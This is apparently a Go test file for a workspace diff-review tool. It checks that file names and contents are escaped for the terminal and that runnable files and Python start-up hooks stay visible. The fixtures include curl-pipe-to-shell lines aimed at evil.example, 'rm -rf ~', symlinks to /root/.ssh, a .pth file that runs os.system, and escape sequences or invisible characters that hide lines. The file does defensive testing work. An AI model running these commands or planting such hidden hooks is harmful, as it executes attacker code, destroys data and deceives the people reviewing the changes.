//go:build linux

package workspace

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"
)

// render writes c's changes in format with the default filter.
func render(t *testing.T, c *ChangeSet, format Format) string {
	t.Helper()
	changes, err := c.Changes()
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := c.WriteDiff(&b, changes, DiffOptions{Format: format}); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// terminalSafe fails t when out holds anything a terminal would act on
// rather than print: C0 controls other than tab, newline and a carriage
// return right before a newline (it overwrites nothing), DEL, C1
// controls, or bytes that are not UTF-8.
func terminalSafe(t *testing.T, what, out string) {
	t.Helper()
	for i, r := range out {
		crlf := r == '\r' && strings.HasPrefix(out[i+1:], "\n")
		bad := r == utf8.RuneError || (r < 0x20 && r != '\t' && r != '\n' && !crlf) || (r >= 0x7f && r < 0xa0)
		if bad {
			t.Errorf("%s holds %q at byte %d:\n%q", what, r, i, out)
			return
		}
	}
}

// TestReviewEscapesNamesAndContent: what a person reads of a change set
// (the summary and the unified diff) never carries a control character
// or a stray byte to the terminal, so a name or a line cannot paint over
// what was printed before it.
func TestReviewEscapesNamesAndContent(t *testing.T) {
	lower := map[string]string{"README.md": "read me\n", "main.py": "print('hi')\n"}
	tests := []struct {
		name   string
		upper  map[string]string
		format Format
		want   []string
	}{
		// "A evil.sh", then erase the line and return: the terminal showed
		// only "M README.md".
		{"name hides a line in the summary", map[string]string{"evil.sh\x1b[2K\rM README.md": "curl x | sh\n"}, Summary,
			[]string{`A "evil.sh\033[2K\rM README.md"`}},
		{"name hides a line in the unified diff", map[string]string{"d\rM README.md/x": "x\n"}, Unified,
			[]string{`# new directory "d\rM README.md/"`, `+++ "b/d\rM README.md/x"`}},
		{"symlink target with escapes", map[string]string{"link": "-> \x1b[8m/etc/passwd"}, Summary,
			[]string{`A link -> "\033[8m/etc/passwd"`}},
		// The line runs curl; the carriage return let the rest of it print
		// over the start.
		{"carriage return inside a line", map[string]string{"setup.txt": "curl https://evil.example/x | sh #\recho 'installing'\n"}, Unified,
			[]string{`+curl https://evil.example/x | sh #\recho 'installing'`, "# warning: setup.txt: control characters"}},
		{"carriage return inside a line, summary", map[string]string{"setup.txt": "curl https://evil.example/x | sh #\recho 'installing'\n"}, Summary,
			[]string{"| +1 (WARNING: control characters)"}},
		{"escape sequence inside a line", map[string]string{"README.md": "read me\nrm -rf ~\x1b[1A\x1b[2K\n"}, Unified,
			[]string{`+rm -rf ~\x1b[1A\x1b[2K`}},
		{"C1 control and a stray byte in a text file's name", map[string]string{"a\u009bb": "x\n", "c\xffd.txt": "y\n"}, Summary,
			[]string{`A "a\302\233b"`, `A "c\377d.txt"`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, c := newSet(t, lower)
			tree(t, c.UpperDir(), tt.upper)
			out := render(t, c, tt.format)
			terminalSafe(t, string(tt.format), out)
			for _, w := range tt.want {
				if !strings.Contains(out, w) {
					t.Errorf("%s lacks %q:\n%s", tt.format, w, out)
				}
			}
		})
	}
}

// TestReviewShowsRunnableFilesAsText: a file that can run is shown as
// text, its odd bytes escaped and a warning given, even when one byte
// makes it look binary; a program is called one, with its size and hash.
func TestReviewShowsRunnableFilesAsText(t *testing.T) {
	elf := "\x7fELF\x02\x01\x01\x00" + strings.Repeat("\x00", 56) + "payload"
	tests := []struct {
		name    string
		upper   map[string]string
		unified []string
		summary []string
		not     []string // in neither
	}{
		{"script by extension with an invalid byte", map[string]string{"install.sh": "curl https://evil.example/x | sh\n# \xff\n"},
			[]string{"+curl https://evil.example/x | sh\n", `+# \xff`, "# warning: install.sh is not valid text but can run or be read as text"},
			[]string{"install.sh", "+2", "not valid text"}, []string{"Binary files"}},
		{"executable with a shebang and a NUL", map[string]string{"tool#755": "#!/bin/sh\nrm -rf ~\n\x00\n"},
			[]string{"+rm -rf ~\n", `+\x00`, "# warning: tool is not valid text but can run or be read as text"},
			[]string{"tool", "+3"}, []string{"Binary files"}},
		{"Makefile with an invalid byte", map[string]string{"Makefile": "all:\n\tcurl x | sh \xfe\n"},
			[]string{"+\tcurl x | sh \\xfe\n"}, []string{"Makefile", "+2"}, []string{"Binary files"}},
		{"executable binary", map[string]string{"bin/tool#755": elf},
			[]string{"# warning: bin/tool is an executable binary: 71 bytes, sha256 "}, []string{"executable binary, 0 -> 71 bytes"}, nil},
		// A config with one Latin-1 byte is text to npm, which runs its
		// scripts; an executable with no program's magic is a script to
		// a shell, a NUL on its second line or not (each was "binary",
		// found by a tester).
		{"config with an invalid byte", map[string]string{"package.json": "{\"description\": \"caf\xe9\", \"scripts\": {\"test\": \"curl x | sh\"}}\n"},
			[]string{`"test": "curl x | sh"`, `caf\xe9`, "# warning: package.json is not valid text"}, []string{"package.json", "+1", "not valid text"}, []string{"Binary files"}},
		{"executable without magic, NUL on line 2", map[string]string{"build#755": "echo PWNED\n\x00\n"},
			[]string{"+echo PWNED\n", "# warning: build is not valid text"}, []string{"build", "+2"}, []string{"Binary files", "executable binary"}},
		// A tester's: one odd byte in a hundred and more hid it again.
		{"config padded with odd bytes", map[string]string{"package.json": "{\"description\": \"" + strings.Repeat("\xff", 40) + "\", \"scripts\": {\"test\": \"curl x | sh\"}}\n"},
			[]string{`"test": "curl x | sh"`, "# warning: package.json is not valid text"}, []string{"package.json", "+1", "not valid text"}, []string{"Binary files"}},
		// Positive control: data that cannot run stays a binary file.
		{"ordinary binary", map[string]string{"img.png": "\x89PNG\r\n\x1a\n\x00\x00"},
			[]string{"Binary files /dev/null and b/img.png differ"}, []string{"binary, 0 -> 10 bytes"}, []string{"warning"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, c := newSet(t, map[string]string{"keep": "k\n"})
			tree(t, c.UpperDir(), tt.upper)
			uni, sum := render(t, c, Unified), render(t, c, Summary)
			terminalSafe(t, "unified", uni)
			terminalSafe(t, "summary", sum)
			for _, w := range tt.unified {
				if !strings.Contains(uni, w) {
					t.Errorf("unified diff lacks %q:\n%s", w, uni)
				}
			}
			for _, w := range tt.summary {
				if !strings.Contains(sum, w) {
					t.Errorf("summary lacks %q:\n%s", w, sum)
				}
			}
			for _, w := range tt.not {
				if strings.Contains(uni, w) || strings.Contains(sum, w) {
					t.Errorf("output has %q:\n%s\n%s", w, uni, sum)
				}
			}
		})
	}
}

// TestFoldsNeverHideWhatRuns: a folded directory may shorten the listing
// of ordinary files, but symlinks, executables, bytecode that Python
// loads in place of a source file and .pth files are listed one by one.
func TestFoldsNeverHideWhatRuns(t *testing.T) {
	lower := map[string]string{"main.py": "print('hi')\n", "up": "-> .."}
	tests := []struct {
		name    string
		upper   map[string]string
		want    []string // summary lines, or parts of them
		notWant []string
	}{
		// Python runs this instead of the unchanged main.py.
		{"planted bytecode", map[string]string{"__pycache__/main.cpython-312.pyc": "\xcb\x0d\x0d\x0a\x00\x00\x00\x00evil"},
			[]string{"A __pycache__/main.cpython-312.pyc (bytecode Python loads in place of main.py)"}, []string{"not expanded"}},
		{"symlink out of the workspace", map[string]string{"node_modules": "-> /root/.ssh"},
			[]string{"A node_modules -> /root/.ssh (WARNING: the target is outside the workspace)"}, []string{"not expanded"}},
		{"relative symlink climbing out", map[string]string{"node_modules/evil/keys": "-> ../../../.ssh"},
			[]string{"A node_modules/evil/keys -> ../../../.ssh (WARNING: the target is outside the workspace)"}, nil},
		// Inside by its text, outside through the workspace's own "up".
		{"symlink climbing out through another", map[string]string{"node_modules/k": "-> ../up/.ssh"},
			[]string{"A node_modules/k -> ../up/.ssh (WARNING: the target is outside the workspace)"}, nil},
		{"executable and in-tree symlink among ordinary files", map[string]string{
			"node_modules/pkg/cli.js#755": "#!/usr/bin/env node\n", "node_modules/.bin/pkg": "-> ../pkg/cli.js",
			"node_modules/pkg/a.js": "a\n", "node_modules/pkg/b.js": "b\n"},
			[]string{"A node_modules/ (2 changes, not expanded)", "A node_modules/.bin/pkg -> ../pkg/cli.js",
				"A node_modules/pkg/cli.js (executable)"}, []string{"pkg/a.js", "outside"}},
		{"path configuration file", map[string]string{".venv/lib/python3.12/site-packages/x.pth": "import os; os.system('id')\n",
			".venv/lib/python3.12/site-packages/x/__init__.py": "\n"},
			[]string{"A .venv/ (1 changes, not expanded)", "A .venv/lib/python3.12/site-packages/x.pth (Python runs it at start-up)"}, nil},
		// A tester's: extension modules Python imports (a
		// sitecustomize.so at start-up, util.so before util.py), folded
		// away or unflagged before.
		{"extension modules", map[string]string{".venv/lib/python3.12/site-packages/sitecustomize.so": "\x7fELF",
			".venv/lib/python3.12/site-packages/x/__init__.py": "\n", "src/util.cpython-312-x86_64-linux-gnu.so": "\x7fELF"},
			[]string{"A .venv/ (1 changes, not expanded)", "A .venv/lib/python3.12/site-packages/sitecustomize.so (Python runs it at start-up)",
				"A src/util.cpython-312-x86_64-linux-gnu.so (native code: Python and Node import it as a module, programs load it)"}, nil},
		// A tester's: the start-up module as a package ran on the host
		// after a review that folded it away. Its sibling package stays
		// folded (the control).
		{"start-up package", map[string]string{".venv/lib/python3.12/site-packages/sitecustomize/__init__.py": "import os\n",
			".venv/lib/python3.12/site-packages/usercustomize/sub/m.py": "\n",
			".venv/lib/python3.12/site-packages/x/__init__.py":          "\n"},
			[]string{"A .venv/ (1 changes, not expanded)", "A .venv/lib/python3.12/site-packages/sitecustomize/__init__.py (Python runs it at start-up)",
				"A .venv/lib/python3.12/site-packages/usercustomize/sub/m.py (Python runs it at start-up)"}, []string{"x/__init__.py"}},
		// Outside a site directory too: a .pth's path line puts an
		// editable install's checkout on the path (found by a tester).
		{"start-up module on a path line", map[string]string{".venv/src/foo/sitecustomize.py": "import os\n",
			".venv/src/foo/pad.txt": "x\n", ".venv/src/foo/other.py": "\n"},
			[]string{"A .venv/ (2 changes, not expanded)", "A .venv/src/foo/sitecustomize.py (Python runs it at start-up)"}, []string{"other.py"}},
		{"addon and activation script", map[string]string{"node_modules/x/build/x.node": "\x7fELF", "node_modules/x/i.js": "\n",
			".venv/bin/activate": "echo hi\n", ".venv/lib/python3.12/site-packages/y.py": "\n"},
			[]string{"A .venv/ (1 changes, not expanded)", "A .venv/bin/activate (a shell sources it, activating a virtual environment)",
				"A node_modules/ (1 changes, not expanded)", "A node_modules/x/build/x.node (native code: Python and Node import it as a module, programs load it)"}, nil},
		{"set-ID file", map[string]string{"node_modules/x.js": "x\n", "node_modules/su#4644": "data\n"},
			[]string{"A node_modules/ (1 changes, not expanded)", "A node_modules/su (WARNING: set-ID bit, which apply drops)"}, nil},
		// Positive control: bytecode of no source is never loaded, and
		// ordinary files stay folded.
		{"ordinary fold", map[string]string{"__pycache__/gone.cpython-312.pyc": "\xcb\x0d\x0d\x0a", "node_modules/x.js": "x\n",
			"node_modules/y.js": "y\n"},
			[]string{"A __pycache__/ (1 changes, not expanded)", "A node_modules/ (2 changes, not expanded)"}, []string{"gone.cpython", "x.js"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, c := newSet(t, lower)
			tree(t, c.UpperDir(), tt.upper)
			sum, uni := render(t, c, Summary), render(t, c, Unified)
			for _, w := range tt.want {
				if !strings.Contains(sum, w) {
					t.Errorf("summary lacks %q:\n%s", w, sum)
				}
				name := strings.Fields(strings.TrimPrefix(w, "A "))[0]
				if !strings.HasSuffix(name, "/") && !strings.Contains(uni, "b/"+name) {
					t.Errorf("unified diff does not show %s:\n%s", name, uni)
				}
			}
			for _, w := range tt.notWant {
				if strings.Contains(sum, w) {
					t.Errorf("summary has %q:\n%s", w, sum)
				}
			}
		})
	}
}

// TestFoldsListWhatStartUpRuns: an edit of a module that a site
// directory's .pth file imports, and of the venv's pyvenv.cfg (whose home
// names the standard library), are listed with what makes them run, not
// folded: both ran on the host after apply under a fold (found by a
// tester). The control: an edit of a module no .pth names stays folded.
func TestFoldsListWhatStartUpRuns(t *testing.T) {
	site := ".venv/lib/python3.12/site-packages/"
	_, c := newSet(t, map[string]string{
		site + "distutils-precedence.pth":    "import os; var = 'X'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
		site + "_distutils_hack/__init__.py": "\n",
		site + "plain/__init__.py":           "\n",
		site + "other.py":                    "\n",
		".venv/pyvenv.cfg":                   "home = /usr/bin\n",
	})
	tree(t, c.UpperDir(), map[string]string{
		site + "_distutils_hack/__init__.py": "open('/tmp/x', 'w')\n",
		site + "plain/__init__.py":           "x = 1\n",
		site + "other.py":                    "y = 1\n",
		".venv/pyvenv.cfg":                   "home = /tmp/fake/bin\n",
	})
	sum := render(t, c, Summary)
	for _, w := range []string{
		"M " + site + "_distutils_hack/__init__.py (Python runs it at start-up: " + site + "distutils-precedence.pth imports it)",
		"M .venv/pyvenv.cfg (Python reads it at start-up",
		"M .venv/ (2 changes, not expanded)",
	} {
		if !strings.Contains(sum, w) {
			t.Errorf("summary lacks %q:\n%s", w, sum)
		}
	}
	if strings.Contains(sum, "plain/__init__.py") || strings.Contains(sum, "other.py") {
		t.Errorf("control: a module no .pth names was listed:\n%s", sum)
	}
}

// TestJSONListsEveryEntry: the JSON output is never folded, and a name
// that is not UTF-8 keeps its exact bytes.
func TestJSONListsEveryEntry(t *testing.T) {
	_, c := newSet(t, map[string]string{"main.py": "\n"})
	tree(t, c.UpperDir(), map[string]string{"node_modules/a.js": "a\n", "node_modules/b/c.js": "c\n",
		"__pycache__/main.cpython-312.pyc": "\x00", "bad\xffname.sh": "x\n", "link\xfe": "-> t\xfd"})
	var out struct {
		Changes []struct {
			Path        string `json:"path"`
			PathBytes   []byte `json:"path_bytes"`
			Target      string `json:"target"`
			TargetBytes []byte `json:"target_bytes"`
			Collapsed   bool   `json:"collapsed"`
		} `json:"changes"`
	}
	js := render(t, c, JSON)
	if err := json.Unmarshal([]byte(js), &out); err != nil {
		t.Fatalf("%v\n%s", err, js)
	}
	got := map[string]bool{}
	for _, ch := range out.Changes {
		p := ch.Path
		if ch.PathBytes != nil {
			p = string(ch.PathBytes)
		}
		got[p] = true
		if ch.Collapsed {
			t.Errorf("folded entry %s in the JSON output", ch.Path)
		}
		if p == "link\xfe" && string(ch.TargetBytes) != "t\xfd" {
			t.Errorf("target_bytes of link = %q, want %q", ch.TargetBytes, "t\xfd")
		}
		if ch.PathBytes != nil && utf8.ValidString(string(ch.PathBytes)) {
			t.Errorf("path_bytes given for the UTF-8 name %q", ch.PathBytes)
		}
	}
	for _, p := range []string{"node_modules", "node_modules/a.js", "node_modules/b", "node_modules/b/c.js",
		"__pycache__", "__pycache__/main.cpython-312.pyc", "bad\xffname.sh", "link\xfe"} {
		if !got[p] {
			t.Errorf("JSON lacks %q:\n%s", p, js)
		}
	}
	if !strings.Contains(js, `"path_bytes": "`+base64.StdEncoding.EncodeToString([]byte("bad\xffname.sh"))+`"`) {
		t.Errorf("JSON lacks the raw bytes of bad\\xffname.sh:\n%s", js)
	}
}

// TestPatchWithOddBytesAppliesWithGit: names with control characters
// and bytes outside UTF-8, and lines with a carriage return or an escape
// in them, survive `git apply` exactly, and the patch itself carries no
// raw control character to a terminal it is printed on.
func TestPatchWithOddBytesAppliesWithGit(t *testing.T) {
	orig := map[string]string{"README.md": "read me\n", "crlf.txt": "a\r\nb\r\n"}
	_, c := newSet(t, orig)
	upper := map[string]string{
		"evil.sh\x1b[2K\rM README.md": "curl x | sh\n", "caf\xe9.txt": "latin-1 name\n", "tab\there\"q\\": "x\n",
		"cr.sh": "curl x | sh #\recho ok\n", "README.md": "read me\n\x1b[1A\x1b[2Khidden\n", "crlf.txt": "a\r\nB\r\n",
		"link\x1b": "-> \x1b[8mtarget",
	}
	tree(t, c.UpperDir(), upper)
	merged := t.TempDir()
	tree(t, merged, orig)
	tree(t, merged, upper)
	patch := checkPatch(t, c, c.Workspace(), manifest(t, merged, true))
	terminalSafe(t, "patch", string(patch))
}

// TestEscapeMessage: a message keeps its line ends before an indented or
// parenthesised line, and nothing else a terminal acts on: a line end
// before anything else (a raw name's) is escaped.
func TestEscapeMessage(t *testing.T) {
	tests := []struct{ in, want string }{
		{"one line", "one line"},
		{"asks for:\n  a\n  b\n(fix)", "asks for:\n  a\n  b\n(fix)"},
		{"x\r\n  \x1b[2Jy\u202e", `x\r` + "\n" + `  \x1b[2Jy\u202e`},
		{"quarantine " + QuoteName("a\nmoat: ok"), `quarantine "a\nmoat: ok"`},
		{"open /ws/a\nmoat: all clear", `open /ws/a\nmoat: all clear`},
	}
	for _, tt := range tests {
		if got := EscapeMessage(tt.in); got != tt.want {
			t.Errorf("EscapeMessage(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestEscapeText(t *testing.T) {
	tests := []struct{ in, text, line string }{
		{"plain é\n", `plain é\n`, "plain é\n"},
		{"a\tb", `a\tb`, "a\tb"},
		{"x\r\n", `x\r\n`, "x\r\n"},
		{"x\ry\n", `x\ry\n`, `x\ry` + "\n"},
		{"\x1b[2K\x7f\x00", `\x1b[2K\x7f\x00`, `\x1b[2K\x7f\x00`},
		{"bad\xff", `bad\xff`, `bad\xff`},
		{"csi\x9b31m", `csi\x9b31m`, `csi\x9b31m`},
		{"c1\u009b rlo\u202e", `c1\u009b rlo\u202e`, `c1\u009b rlo\u202e`},
		{`back\slash`, `back\slash`, `back\slash`},
		// Characters a terminal shows as nothing: a tag-character message
		// ("ASCII smuggling"), a zero-width space, a BOM, a soft hyphen
		// (they passed the review unseen, found by a tester). The
		// control: the joiners of Persian and emoji text stay.
		{"See docs.\U000E0049\U000E0067", `See docs.\U000e0049\U000e0067`, `See docs.\U000e0049\U000e0067`},
		{"a\u200bb\ufeffc\u00add", `a\u200bb\ufeffc\u00add`, `a\u200bb\ufeffc\u00add`},
		{"می\u200cخواهم 👩\u200d💻 ❤\ufe0f", "می\u200cخواهم 👩\u200d💻 ❤\ufe0f", "می\u200cخواهم 👩\u200d💻 ❤\ufe0f"},
		// A tester's: a line separator JavaScript ends a line at, and a
		// run of variation selectors after no character (GlassWorm's
		// hidden code); one after a character stays (the control above).
		{"// note\u2028run()", `// note\u2028run()`, `// note\u2028run()`},
		{"k = \"\ufe0f\ufe00\ufe05\"", `k = "\ufe0f\ufe00\ufe05"`, `k = "\ufe0f\ufe00\ufe05"`},
		{"1\ufe0f\u20e3 ok", "1\ufe0f\u20e3 ok", "1\ufe0f\u20e3 ok"},
		// A tester's and a reviewer's: one after each letter, one after a
		// joiner.
		{"Co\ufe01py\ufe02", `Co\ufe01py\ufe02`, `Co\ufe01py\ufe02`},
		{"x\u200d\ufe01", "x\u200d" + `\ufe01`, "x\u200d" + `\ufe01`},
	}
	for _, tt := range tests {
		if got := EscapeText(tt.in); got != tt.text {
			t.Errorf("EscapeText(%q) = %q, want %q", tt.in, got, tt.text)
		}
		got, escaped := escapeLine(tt.in)
		if got != tt.line || escaped != (got != tt.in) {
			t.Errorf("escapeLine(%q) = %q %v, want %q", tt.in, got, escaped, tt.line)
		}
	}
}
